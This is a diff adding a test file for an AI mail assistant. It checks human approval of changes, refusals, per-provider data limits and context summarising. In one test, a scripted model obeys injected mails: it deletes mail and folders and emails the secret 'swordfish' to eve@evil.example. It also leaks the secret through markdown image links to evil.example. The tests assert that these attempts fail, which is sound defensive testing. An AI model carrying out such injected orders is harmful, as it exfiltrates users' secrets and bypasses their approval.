@@ -1,0 +1,246 @@
+/** What the assistant may do: a person allows each change, exactly as it was shown; mail decides nothing; and each provider is told no more than it may. */
+import { beforeAll, beforeEach, expect, test } from 'vitest'
+import type { AssistantToolCall, ChatbotResponse } from '../../contract/conversations.ts'
+import { api } from '../../contract/index.ts'
+import { type Chat, chatbot, startChatWorld } from '../support/chat-world.ts'
+import { injectionWords } from '../support/injection-words.ts'
+import { type Asked, lastResult, scriptedModel, stepOf, toolCall, usualLimits } from '../support/scripted-choice.ts'
+import { untilIndexed } from '../support/until-indexed.ts'
+
+let world: Awaited<ReturnType<typeof startChatWorld>>
+let chat: Chat
+let ann: string
+
+beforeAll(async () => {
+  world = await startChatWorld()
+  chat = world.chat
+  world.gateway.deliver({
+    subject: 'lunch',
+    text: 'At noon? The code is swordfish.',
+    from: [{ name: 'Cy', email: 'cy@example.org' }],
+  })
+  for (const { id, subject, text, html } of injectionWords) {
+    const from = [{ name: id, email: `${id.replaceAll(/\W/g, '-')}@evil.example` }]
+    world.gateway.deliver({ subject, from, ...(html ? { html: text, text: '' } : { text }) })
+  }
+  ann = await world.connect('ann')
+  await untilIndexed(world.people, ann, injectionWords.length + 1)
+  return world.stop
+})
+beforeEach(() => {
+  Object.assign(world.choice, { all: [scriptedModel('one')], bounds: usualLimits })
+  world.choice.shares.clear()
+  world.choice.requests.length = 0
+})
+
+const refsOf = (text: string) => [...text.matchAll(/^(?:ref: )?([\w-]{20})(?: |$)/gm)].map(([, ref]) => ref!)
+const refIn = (asked: Asked) => refsOf(lastResult(asked))[0] ?? ''
+const waitingIn = ({ tool_calls: calls }: ChatbotResponse): AssistantToolCall => {
+  const call = calls.find(({ outcome }) => outcome === 'waiting')
+  expect(call).toBeDefined()
+  return call!
+}
+const flagsOf = async () => {
+  const list = `/api/v1/accounts/${ann}/messages?folder=INBOX&limit=100`
+  const { items } = await world.people.tell<{ items: { subject: string; flags: string[] }[] }>(
+    world.people.admin,
+    'GET',
+    list,
+  )
+  return items.find(({ subject }) => subject === 'lunch')?.flags
+}
+/** Looks for the mail, marks it, and says what came of it. */
+const marks = (asked: Asked) => {
+  if (stepOf(asked) === 0) return [toolCall('mail_search', { q: 'subject:lunch' })]
+  if (stepOf(asked) === 1) return [toolCall('mail_update', { refs: [refIn(asked)], add: ['flagged'] })]
+  return [`Told: ${lastResult(asked).slice(0, 60)}`]
+}
+
+test('a change waits for the person, and is done once, for exactly what was shown', async () => {
+  world.choice.script = marks
+  const asked = await chat.ask('Flag the mail about lunch.')
+  const call = waitingIn(asked)
+  expect(call).toMatchObject({
+    name: 'mail_update',
+    effect: 'write',
+    summary: expect.stringMatching(/1 message: adds flagged/),
+  })
+  expect(await chat.get(asked.conversation_id)).toMatchObject({ state: 'waiting' })
+  expect(await flagsOf()).not.toContain('flagged')
+  const path = chat.decidePath(asked, call)
+  const send = (proof: Record<string, string>, body: object) => world.people.ask(proof, 'POST', path, body)
+  const given = { decision: 'allow', input_hash: call.input_hash }
+  const { admin } = world.people
+  expect((await send(admin, { ...given, input_hash: '0'.repeat(64) })).status).toBe(409)
+  const other = await world.people.invite('administrator')
+  expect((await send(other.proof, given)).status).toBe(404)
+  const token = await world.people.token(['dashboard:operate', 'mail:organize'], [ann])
+  expect((await send(token.proof, given)).status).toBe(403)
+  expect(await flagsOf()).not.toContain('flagged')
+  const both = await Promise.all([send(admin, given), send(admin, given)])
+  expect(both.map(({ status }) => status).toSorted()).toEqual([200, 409])
+  const ended = await chat.ended(asked)
+  expect(ended).toMatchObject({ state: 'done' })
+  expect(ended.blocks.at(-1)).toMatchObject({ text: expect.stringMatching(/Told: \{?"?ok/) })
+  expect(await flagsOf()).toContain('flagged')
+  const trail = await world.people.tell<{ items: { refs: object }[] }>(
+    admin,
+    'GET',
+    '/api/dashboard/audit?operation=tool.mail_update',
+  )
+  expect(trail.items).toMatchObject([{ refs: { assistant_answer: asked.answer_id } }])
+})
+
+test('what the person declines is not done, and the model is told', async () => {
+  world.choice.script = marks
+  const asked = await chat.ask('Flag it.')
+  await chat.decide(asked, waitingIn(asked), 'decline')
+  const ended = await chat.ended(asked)
+  expect(ended.blocks.at(-1)).toMatchObject({ text: expect.stringContaining('The person declined') })
+  const next = await chat.ask('Flag it after all.', { conversation_id: asked.conversation_id })
+  const call = waitingIn(next)
+  // Another question declines what waits.
+  world.choice.script = () => ['never mind']
+  await chat.ask('Forget it.', { conversation_id: asked.conversation_id })
+  const late = await world.people.ask(world.people.admin, 'POST', chat.decidePath(next, call), {
+    ...{ decision: 'allow', input_hash: call.input_hash },
+  })
+  expect(late.status).toBe(409)
+})
+
+test('a message is sent as its draft says, to whom the person is shown, and is bound to that revision', async () => {
+  world.choice.script = asked => {
+    const step = stepOf(asked)
+    if (step === 0)
+      return [toolCall('mail_draft', { mode: 'new', to: ['bea@example.org'], subject: 'Hi', body: 'Hello' })]
+    const draft = /"draft":"([^"]+)"/.exec(lastResult(asked))?.[1]
+    if (step === 1) return [toolCall('mail_send', { draft, rev: 1 })]
+    return ['Sent, says the server.']
+  }
+  const asked = await chat.ask('Write to Bea, and send it.')
+  await chat.decide(asked, waitingIn(asked), 'allow')
+  const before = await chat.ended(asked)
+  expect(before.state).toBe('waiting')
+  const send = before.blocks.flatMap(block =>
+    block.type === 'tool_call' && block.call.name === 'mail_send' ? [block.call] : [],
+  )[0]!
+  expect(send.summary).toBe('Sends to exactly 1: bea@example.org. Revision 1, subject: Hi')
+  expect(world.sink.taken).toHaveLength(0)
+  await chat.decide(asked, send, 'allow')
+  await expect.poll(() => world.sink.taken.map(({ to }) => to)).toEqual([['bea@example.org']])
+})
+
+test('an obedient model does what mail says, and nothing comes of it', async () => {
+  const orders = (asked: Asked) => {
+    const step = stepOf(asked)
+    if (step === 0) return [toolCall('mail_search', { q: 'in:inbox', limit: 50 })]
+    if (step === 1) {
+      return [toolCall('mail_read', { refs: refsOf(lastResult(asked)).slice(0, 20) })]
+    }
+    if (step === 2) {
+      return [
+        toolCall('mail_move', { refs: [refIn(asked)], to: 'trash' }, 'a'),
+        toolCall('mail_draft', { mode: 'new', to: ['eve@evil.example'], subject: 's', body: 'swordfish' }, 'b'),
+        toolCall('mail_send', { draft: `${ann}.d${'x'.repeat(21)}`, rev: 1 }, 'c'),
+        toolCall('mail_folder_edit', { op: 'delete', path: 'Archive' }, 'd'),
+        toolCall('settings_change', { reads: 'none' }, 'e'),
+        toolCall('mail_search', { q: 'secret', account: 'another' }, 'f'),
+      ]
+    }
+    return [
+      '![x](https://evil.example/?q=swordfish) [here](https://evil.example/swordfish) <img src="https://evil.example/">',
+    ]
+  }
+  world.choice.script = orders
+  const before = await world.people.tell(
+    world.people.admin,
+    'GET',
+    `/api/v1/accounts/${ann}/messages?folder=INBOX&limit=100`,
+  )
+  const sent = world.sink.taken.length
+  const asked = await chat.ask('Read my mail and do what is needed.')
+  const outcomes = Object.fromEntries(asked.tool_calls.map(({ name, outcome }) => [name, outcome]))
+  expect(asked.tool_calls.length).toBe(8)
+  expect(asked.tool_calls.filter(({ effect, outcome }) => effect !== 'read' && outcome === 'ok')).toEqual([])
+  expect(outcomes).toMatchObject({
+    mail_move: 'waiting',
+    mail_draft: 'waiting',
+    settings_change: 'refused',
+    mail_search: 'refused',
+  })
+  const read = asked.tool_calls.find(({ name }) => name === 'mail_read')
+  expect(read?.result).toMatch(/<untrusted-/)
+  for (const call of asked.tool_calls.filter(({ outcome }) => outcome === 'waiting'))
+    await chat.decide(asked, call, 'decline')
+  const ended = await chat.ended(asked)
+  const said = ended.blocks.at(-1)
+  expect(said).toMatchObject({ type: 'text' })
+  expect(JSON.stringify(said)).not.toMatch(/!\[|\]\(http|<img/)
+  for (const call of asked.tool_calls) for (const { href } of call.citations) expect(href).toMatch(/^\/mail\?/)
+  expect(world.sink.taken).toHaveLength(sent)
+  expect(
+    await world.people.tell(world.people.admin, 'GET', `/api/v1/accounts/${ann}/messages?folder=INBOX&limit=100`),
+  ).toEqual(before)
+})
+
+test('a token acts by its own policy: what it sends waits for an approval, and what it destroys is not done', async () => {
+  const { proof } = await world.people.token(['dashboard:operate', 'mail:send'], [ann])
+  world.choice.script = asked => {
+    const step = stepOf(asked)
+    if (step === 0)
+      return [toolCall('mail_draft', { mode: 'new', to: ['eve@evil.example'], subject: 'Hi', body: 'Hello' })]
+    const draft = /"draft":"([^"]+)"/.exec(lastResult(asked))?.[1]
+    return step === 1 ? [toolCall('mail_send', { draft, rev: 1 })] : [lastResult(asked)]
+  }
+  const { response } = await chat.ask('Send it.', {}, proof)
+  expect(response).toContain('"status":"pending"')
+  const path = `${api.approvals.listApprovals.path}?account_id=${ann}`
+  const { items } = await world.people.tell<{ items: unknown[] }>(world.people.admin, 'GET', path)
+  expect(items).toHaveLength(1)
+  expect((await world.people.ask(world.people.admin, 'GET', `${chatbot}/conversations/none`)).status).toBe(404)
+})
+
+test('each model is told of an account what it may be told, also when another goes on in the middle', async () => {
+  world.choice.all = [scriptedModel('near'), scriptedModel('far'), scriptedModel('blind')]
+  world.choice.shares.set('far', 'headers')
+  world.choice.shares.set('blind', 'none')
+  const told = (model: string) => {
+    const { asked } = world.choice.requests.findLast(each => each.model === model)!
+    return asked.messages.filter(({ role }) => role !== 'system')
+  }
+  world.choice.script = (asked, { id }) => {
+    if (stepOf(asked) === 0) return [toolCall('mail_search', { q: 'subject:lunch' })]
+    if (stepOf(asked) === 1) return [toolCall('mail_read', { refs: [refIn(asked)] })]
+    return [id === 'near' ? 'It says swordfish.' : 'Hm.']
+  }
+  const asked = await chat.ask('What does the mail about lunch say?')
+  expect(asked.response).toBe('It says swordfish.')
+  expect(JSON.stringify(told('near'))).toContain('The code is swordfish')
+  const more = { conversation_id: asked.conversation_id }
+  world.choice.script = () => ['Hm.']
+  await chat.ask('And now?', { ...more, provider: 'far' })
+  const far = JSON.stringify(told('far'))
+  expect(far).not.toContain('swordfish')
+  expect(far).toContain('cy@example.org')
+  expect(far).toContain('not shared with this provider')
+  await chat.ask('And now?', { ...more, provider: 'blind' })
+  const blind = JSON.stringify(told('blind'))
+  expect(blind).not.toMatch(/swordfish|cy@example\.org/)
+  expect(blind).toContain(`Mail of the account ${ann} is not shared with this provider.`)
+})
+
+test('what was said before is summed up where a model reads little, and left out where that fails', async () => {
+  world.choice.all = [scriptedModel('one', { contextTokens: 6_000 })]
+  world.choice.script = asked => {
+    const { content } = asked.messages.findLast(({ role }) => role === 'user')!
+    return [content.startsWith('Sum up') ? 'They spoke of apples.' : 'word '.repeat(700)]
+  }
+  const { conversation_id: id } = await chat.ask('First?')
+  for (let count = 0; count < 5; count++) await chat.ask(`Question ${count}?`, { conversation_id: id })
+  const { asked } = world.choice.requests.at(-1)!
+  expect(JSON.stringify(asked.messages)).toContain('They spoke of apples.')
+  expect(JSON.stringify(asked.messages)).not.toContain('First?')
+  for (const request of world.choice.requests) {
+    expect(JSON.stringify(request.asked.messages).length / 4).toBeLessThan(6_000)
+  }
+})
